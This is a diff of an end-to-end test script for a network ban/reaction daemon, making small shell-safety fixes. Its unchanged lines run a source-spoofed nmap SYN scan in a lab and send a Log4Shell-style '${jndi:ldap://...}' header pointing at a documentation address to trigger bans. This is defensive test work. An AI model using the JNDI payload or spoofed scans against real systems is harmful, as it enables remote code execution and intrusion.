@@ -7,7 +7,7 @@
 # while nmap still runs; bans expire and escalate (3 s, then 6 s); SIGHUP and `hyperionctl reload` lose
 # no connection and no ban; a broken policy is refused and the old one keeps enforcing. v4 and v6.
 set -u
-cd "$(dirname "$0")/../.."
+cd "$(dirname "$0")/../.." || exit 1
 LAB_ID=$$
 source scripts/lab.sh
 POLICY_SRC=${POLICY_SRC:-tests/e2e/policies/reactions.lua}   # overridable: run it against another policy
@@ -170,7 +170,7 @@ for src in 192.0.2.68 2001:db8:0:66::68; do
 	att timeout 60 nmap $six -n -Pn -sS -e eth0 -S "$src" -r -p 1-300,8080 --max-retries 0 --max-rate 100 \
 		"$dst" >"$LAB_DIR/nmap.out" 2>&1 &
 	np=$!
-	t0=$(date +%s.%N) banned_at= running_at_ban=no
+	t0=$(date +%s.%N) banned_at='' running_at_ban=no
 	for i in $(seq 1 600); do
 		if lab_banned "$src"; then
 			banned_at=$(awk -v a="$t0" -v b="$(date +%s.%N)" 'BEGIN { printf "%.2f", b - a }')
@@ -200,7 +200,7 @@ jndi() { attack "$1" "$(url_of "$1" '/')" -H 'X-Api: ${jndi:ldap://198.51.100.99
 # time it until it is gone, check traffic passes again. Prints TAP lines (counted by collect) and
 # "DUR src n seconds".
 ban_cycle() {   # src n
-	local src=$1 n=$2 tb= tg= row= ttl i cp lo hi
+	local src=$1 n=$2 tb='' tg='' row='' ttl i cp lo hi
 	CURL_MAX=0.5 jndi "$src" &
 	cp=$!
 	for i in $(seq 1 60); do
